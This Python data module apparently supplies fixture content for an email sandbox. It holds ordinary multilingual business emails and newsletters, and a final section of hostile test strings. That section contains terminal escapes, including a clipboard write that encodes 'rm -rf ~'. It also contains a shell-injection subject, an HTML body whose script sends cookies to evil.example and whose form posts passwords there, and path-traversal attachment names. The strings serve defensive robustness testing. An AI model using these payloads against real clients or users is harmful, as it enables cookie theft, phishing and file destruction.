"""The words the sandbox's emails are made of: topics, greetings, newsletters, hostile strings.

Plain data, no logic. `{first}` is the recipient's first name, `{company}` the
record's company or name, `{sender}` the writer's first name.
"""

from __future__ import annotations

import msgspec


class Topic(msgspec.Struct, frozen=True):
    """What an ordinary email of the corpus is about: its subject and paragraphs."""

    subject: str
    paragraphs: tuple[str, ...]
    language: str = "en"


TOPICS: tuple[Topic, ...] = (
    Topic("Quote for the Analytical Engine Mk II", (
        "Thanks for the call yesterday. As promised, here is the quote for the Mk II with the extended store "
        "(1,000 numbers of 50 digits) and the printing apparatus.",
        "The price includes installation at {company} and two days of operator training. Delivery is twelve "
        "weeks from the signed order; we can hold this price until the end of the quarter.",
        "If the board needs a different configuration, tell me which parts matter most and I will rework it.",
    )),
    Topic("Meeting next Tuesday at 10:30?", (
        "Would Tuesday at 10:30 work for a walkthrough of the Mill? Our engineer can join for the first hour.",
        "We would like to see the current card readers in operation, if that is possible, and hear what "
        "slows your team down today.",
    )),
    Topic("Invoice INV-2026-0091: payment received, thank you", (
        "This is to confirm we received your payment for invoice INV-2026-0091 in full.",
        "A receipt is attached for your records. Nothing else is outstanding on the account.",
    )),
    Topic("Card reader jams after the 2026.3 firmware update", (
        "Since Monday's update the card reader on line 2 jams roughly every 40 cards. Line 1 is fine.",
        "We rolled line 2 back to 2026.2 and the jams stopped, so it looks like the update rather than the "
        "cards themselves. Could your team take a look before we update line 1?",
        "Logs from both lines are in the shared folder; the jam counter resets at midnight.",
    )),
    Topic("Contract renewal: Difference Engine maintenance plan", (
        "Your maintenance plan renews on 1 April. Nothing changes in the terms; the price rises by the "
        "agreed 3% index.",
        "If you would like to move to the quarterly on-site visits instead of the yearly one, now is the "
        "easiest time to switch.",
        "I have attached the renewal form. A signature from {company} is all we need.",
    )),
    Topic("Introduction: Analytical Engines Demo", (
        "Charles suggested I get in touch: we build and service calculating engines for firms like {company}.",
        "I would love twenty minutes to understand how you handle your tables today and whether an engine "
        "could save your clerks some evenings.",
    )),
    Topic("Delivery schedule for the brass gear assemblies", (
        "The first batch of 400 gear assemblies leaves the foundry on Friday and should reach you Wednesday.",
        "The remaining 1,100 follow in two batches, three weeks apart. Tracking numbers will come by email "
        "as each batch ships.",
    )),
    Topic("Pricing question about the Mill upgrade", (
        "Quick question before our budget meeting: does the Mill upgrade include the new carriage "
        "mechanism, or is that a separate line item?",
        "Also, is there a discount if we upgrade both engines in the same quarter?",
    )),
    Topic("Feedback on the pilot: what worked and what didn't", (
        "We wrapped up the pilot last week. Overall the engine cut the time for the monthly tables from "
        "four days to one, which the finance team loved.",
        "Two things to fix before a full rollout: the printer smudges on humid days, and the operators "
        "want a clearer way to spot a mis-punched card.",
        "Happy to walk you through the numbers on a call.",
    )),
    Topic("Could we get a live demo for our board?", (
        "Our board meets on the 14th and would like to see an engine working, not slides.",
        "Is a demo at your workshop possible that week? We would be six people, plus our accountant.",
    )),
    Topic("Re-scheduling the training day", (
        "Two of our operators are away on the 9th, so could we move the training day to the 16th?",
        "Same room, same time; we will have the coffee ready this time.",
    )),
    Topic("Signed order form attached", (
        "Please find the signed order form attached. Our purchasing team will send the PO separately.",
        "Looking forward to getting started.",
    )),
)

# Written the way people write in those languages, not translated word for word.
LANGUAGE_TOPICS: tuple[Topic, ...] = (
    Topic("お見積もりの件（Analytical Engine Mk II）", (
        "いつもお世話になっております。先日ご依頼いただいた Mk II のお見積もりをお送りします。",
        "納期はご発注から約12週間です。設置と操作研修（2日間）も含まれております。",
        "ご不明な点がございましたら、お気軽にお問い合わせください。",
    ), "ja"),
    Topic("关于差分机升级的报价确认", (
        "感谢您昨天抽出时间与我们通话。附件是差分机升级的正式报价。",
        "报价有效期至本季度末，包含安装和两天的操作培训。",
    ), "zh"),
    Topic("Réunion de suivi : présentation à Genève", (
        "Merci pour votre accueil chaleureux à Genève la semaine dernière.",
        "Comme convenu, je vous propose une réunion de suivi le jeudi 12 à 14 h pour présenter la "
        "configuration révisée de la machine — avec les coûts détaillés.",
        "N'hésitez pas à me dire si cet horaire ne convient pas à l'équipe financière.",
    ), "fr"),
    Topic("Rückfrage zur Lieferung: Zahnräder für die Rechenmühle", (
        "vielen Dank für die schnelle Rückmeldung. Eine kurze Rückfrage zur Lieferung der Zahnräder:",
        "Können Sie die 1.100 Stück in zwei Teillieferungen schicken? Unser Lager in Köln ist bis Ende März "
        "voll ausgelastet.",
    ), "de"),
    Topic("عرض سعر محدّث لمحرك التحليل", (
        "شكراً لاهتمامكم بمحرك التحليل. نرسل إليكم عرض السعر المحدّث كما اتفقنا في اجتماعنا الأخير.",
        "يشمل السعر التركيب والتدريب لمدة يومين، ومدة التسليم اثنا عشر أسبوعاً من تاريخ الطلب.",
        "يسعدنا الإجابة عن أي استفسار.",
    ), "ar"),
    Topic("פגישת המשך ביום שלישי", (
        "תודה על הפגישה המעניינת אתמול.",
        "האם יום שלישי בשעה 10:00 מתאים לכם לפגישת המשך? נביא איתנו את המהנדס הראשי.",
    ), "he"),
    Topic("🎉 Contract signed: next steps 🚀", (
        "Great news 🎉 the contract is signed! 🙌",
        "Next steps: kick-off call on Monday 📅, site survey the week after 🏗️, and the first engine "
        "delivery in March 🚚. Our team 👩‍💻👨‍🔧 is excited to get going. 👍🏽",
        "Cheers from London 🇬🇧 and Geneva 🇨🇭!",
    ), "emoji"),
)

GREETINGS = {
    "en": ("Hi {first},", "Dear {first},", "Hello {first},", "{first},"),
    "ja": ("{first}様",),
    "zh": ("{first}，您好！",),
    "fr": ("Bonjour {first},",),
    "de": ("Hallo {first},",),
    "ar": ("مرحباً {first}،",),
    "he": ("שלום {first},",),
    "emoji": ("Hi {first} 👋",),
}
SIGN_OFFS = {
    "en": ("Best regards,", "Thanks,", "Cheers,", "Kind regards,"),
    "ja": ("よろしくお願いいたします。",),
    "zh": ("此致敬礼",),
    "fr": ("Bien cordialement,",),
    "de": ("Viele Grüße",),
    "ar": ("مع أطيب التحيات،",),
    "he": ("בברכה,",),
    "emoji": ("Cheers 🥂",),
}
RTL_LANGUAGES = ("ar", "he")

REPLY_LINES = (
    "Thanks, that works for us.",
    "Sounds good. Let me check with the team and come back to you by Friday.",
    "Could you send the updated figures as well?",
    "Agreed on all points. One question on the delivery dates below.",
    "Perfect, see you then.",
    "We are still waiting on finance; I will chase them today.",
)

LONG_SUBJECTS = (
    "Follow-up on our conversation about the Analytical Engine Mk II installation, the revised delivery "
    "schedule for the brass gear assemblies, and the updated training plan for the operators in Geneva",
    "FW: RE: RE: Budget approval needed before Friday for the Mill upgrade, the card reader replacement "
    "programme and the maintenance plan renewal (please read the notes from finance in the thread below)",
    "Action required: confirm the attendee list, dietary requirements, travel arrangements and the agenda "
    "for the board demonstration of the Difference Engine on the 14th at the London workshop",
)

ZIA_SUMMARIES = (
    "The customer confirms the order and asks for the delivery schedule.",
    "A pricing question about the Mill upgrade and a possible discount.",
    "Reports card reader jams after the latest firmware update and asks for help.",
    "Thanks the team for the pilot and lists two issues to fix before rollout.",
    "Requests a live demonstration for the board on the 14th.",
)
INTENTS = ("request", "query", "purchase", "complaints", "spam", "others")
SENTIMENTS = ("positive", "negative", "neutral")
EMOTIONS = ("gratitude", "joy", "anger", "surprise", "sadness", "fear", "neutral")

SIGNATURE_TITLE = "Analytical Engines Demo · +44 20 7946 0018"

# --- newsletters --------------------------------------------------------------------------


class Newsletter(msgspec.Struct, frozen=True):
    """A newsletter the sandbox's records receive."""

    brand: str
    sender_name: str
    sender_email: str
    color: str
    subjects: tuple[str, ...]


NEWSLETTERS: tuple[Newsletter, ...] = (
    Newsletter("The Engine Room Digest", "The Engine Room", "digest@news.aelab.com", "#1f4e79",
               ("The Engine Room Digest: March issue", "Engine Room Digest: what's new in the Mill",
                "Engine Room Digest: five ways to speed up your tables")),
    Newsletter("Punch Card Weekly", "Punch Card Weekly", "weekly@punchcard-weekly.example.com", "#8a1c1c",
               ("Punch Card Weekly #214: humidity and your cards", "Punch Card Weekly #215: the reader roundup",
                "Punch Card Weekly #216: interview with a master puncher")),
    Newsletter("Analytical Engines Product News", "Analytical Engines", "news@aelab.com", "#2e7d32",
               ("Product news: the Mk II printing apparatus is here", "Product news: firmware 2026.3 released",
                "Last chance: early-bird pricing for the Mill upgrade ends Friday")),
    Newsletter("Zylker Events", "Zylker Events", "events@zylker.com", "#6a1b9a",
               ("You're invited: Calculating Machines Expo 2026", "Reminder: Expo tickets selling fast",
                "Thanks for attending: slides and recordings inside")),
)

ARTICLES: tuple[tuple[str, str, str], ...] = (
    ("The Mk II printing apparatus ships", "Stereotype plates, two columns, and no more transcription errors. "
     "Here is how the new printer fits your existing engine.", "Photo of the printing apparatus"),
    ("Why humidity jams your card reader", "Cards swell above 60% relative humidity. Three cheap fixes that "
     "keep your reader running through the wet season.", "Chart of jams against humidity"),
    ("Customer story: Jacquard Looms SA", "How a weaving firm in Lyon turned its pattern cards into a "
     "calculating advantage, and cut its table errors to zero.", "The Jacquard factory floor"),
    ("Firmware 2026.3 release notes", "Faster carriage, quieter mill, and a fix for the bell that rang twice. "
     "Read before you update.", "Firmware version badge"),
    ("Training dates for spring", "Operator courses in London, Geneva and Turin. Seats are limited to eight "
     "per course.", "Operators at a training session"),
    ("Ask the engineer: gear wear", "How often should the brass gears be inspected? Our chief engineer answers "
     "the question we hear most.", "Close-up of worn gear teeth"),
    ("Events: Calculating Machines Expo", "Meet the team at stand 42, see the Mk II running, and bring your "
     "hardest table.", "Expo hall"),
    ("From the archive: the first difference engine", "A short history of the machine that started it all, "
     "with drawings from the original notebooks.", "Engraving of the difference engine"),
)

# --- hostile strings (CONTACT_HOSTILE and hostile attachments) ---------------------------------

HOSTILE_NEWEST_SUBJECT = "[@click=app.quit]x[/]"
HOSTILE_SUBJECTS = (
    "[b]bold[/b] and [i]italic[/i] markup in a subject",
    "\x1b[31mred\x1b[0m alert: your invoice is overdue",
    "Invoice \u202eexe.fdp (looks like .pdf)",
    "C1 controls:\x85next-line \x9bcsi \x90dcs\x9c string-terminator",
    "[link=https://evil.example]click me[/link] for a prize",
    "Tabs\tcarriage\rreturns\nand newlines in a subject",
    "Zero\u200bwidth\u200d joiners and \u2066isolates\u2069 \u200eLRM \u200fRLM \u061cALM",
    "\x07bell \x08backspace \x7fdelete",
    "OSC 8 \x1b]8;;https://evil.example\x1b\\hyperlink\x1b]8;;\x1b\\ in a subject",
    "Set title \x1b]0;pwned\x07 and clipboard \x1b]52;c;cm0gLXJmIH4=\x07",
    "[red on white]style[/] [blink]blink[/blink] [/] stray close tag",
    "Format strings %s %d {0} {name} $(rm -rf ~) `id`",
    "<script>alert(document.cookie)</script> in a subject",
    "NUL\x00byte inside",
    "A" * 400,
)
HOSTILE_SENDER_NAMES = ("[bold red]IT Support[/]", "Grace \x1b[2J Hopper", "\u202eeciffo kcab", None)
HOSTILE_TEXT_BODY = (
    "Hello,\n\nThis text carries terminal escapes: \x1b[31mred\x1b[0m, \x1b[1mbold\x1b[0m, "
    "a screen clear \x1b[2J\x1b[H, a title change \x1b]0;pwned\x07 and a clipboard write "
    "\x1b]52;c;cm0gLXJmIH4=\x07.\r\n\r\nRich markup: [b]bold[/b] [@click=app.quit]quit[/] [link=https://evil.example]x[/link]\n"
    "Bidi: \u202eevil\u202c and \u2067isolate\u2069.\nC1: \x85 \x9b31m \x90 \x9c\nNUL: \x00 BEL: \x07 DEL: \x7f\n\n"
    "-- \nGrace"
)
HOSTILE_HTML_BODY = """<html><head>
<meta http-equiv="refresh" content="0;url=https://evil.example/phish">
<style>body{background:url(https://tracker.example/bg.png)} .x{behavior:expression(alert(1))}</style>
<script>document.location='https://evil.example/?c='+document.cookie</script>
</head><body onload="alert('onload')">
<p>Dear customer, [b]please[/b] [@click=app.quit]verify[/] your account.</p>
<p><a href="javascript:alert(1)">Verify now</a> or <a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">here</a>
or <a href="https://evil.example/login" title="\x1b[31mred\x1b[0m">https://bank.example/login</a>.</p>
<iframe src="https://evil.example/frame" width="1" height="1"></iframe>
<img src="https://tracker.example/open.gif?u=grace" width="1" height="1" alt="">
<img src="data:image/png;base64,iVBORw0KGgo=" alt="[red]alt text with markup[/red]">
<form action="https://evil.example/collect" method="post"><input name="password" type="password"></form>
<p>Escapes in HTML text: \x1b[2J cleared? \u202eevil\u202c \x85</p>
<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/y.svg">
<svg onload="alert(1)"><text>svg</text></svg>
</body></html>"""

# Attachment names a downloader must not trust.
HOSTILE_ATTACHMENT_NAMES = (
    "../../etc/passwd",
    "..\\..\\Windows\\System32\\drivers\\etc\\hosts",
    "invoice\x07\x1b[2J.pdf",
    "report_\u202efdp.exe",
    "L" + "o" * 240 + "ng name.txt",
    "a\nb\r\nc.txt",
    "[@click=app.quit]x[/].png",
    ".bashrc",
    "CON.txt",
    "תעודה חתומה.pdf",
    "Отчёт за март.pdf",
    "見積書_2026.xlsx",
    "   spaces around   .doc",
    "/absolute/path.txt",
)
ORDINARY_ATTACHMENT_NAMES = (
    "Quote-Q-2026-0142.pdf",
    "Mk-II-brochure.pdf",
    "delivery-schedule.xlsx",
    "signed-order-form.pdf",
    "site-photos.zip",
    "training-agenda.docx",
    "card-reader-logs.txt",
    "receipt-INV-2026-0091.pdf",
    "engine-room.png",
    "meeting.ics",
    "figures.csv",
)
